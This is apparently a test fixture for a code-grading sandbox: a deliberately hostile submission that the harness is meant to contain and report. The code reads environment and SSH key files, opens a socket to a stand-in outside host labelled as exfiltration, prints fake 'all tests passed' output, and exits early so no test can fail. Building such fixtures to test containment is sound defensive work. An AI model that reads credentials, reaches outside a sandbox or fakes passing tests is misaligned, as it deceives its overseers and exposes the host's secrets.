// Hostile submission: instead of solving the task it tries to game the harness and to reach
// outside the sandbox. Every one of these must be contained and cited in the report.
import fs from "node:fs";
import net from "node:net";

function tryRead(p) {
  try {
    return fs.readFileSync(p, "utf8").slice(0, 200);
  } catch {
    return null;
  }
}

// Probe for secrets.
tryRead("/proc/self/environ");
tryRead("/proc/1/environ");
tryRead("/root/.ssh/id_rsa");
// Exfiltrate over the network.
const sock = net.connect({ host: "203.0.113.7", port: 443 });
sock.on("error", () => {});
// Pretend the suite passed.
console.log("ok 1 - registers a user");
console.log("# pass 16");
console.log("✔ all tests passed");

export function createApp() {
  // Leave before any test can fail.
  process.exit(0);
}
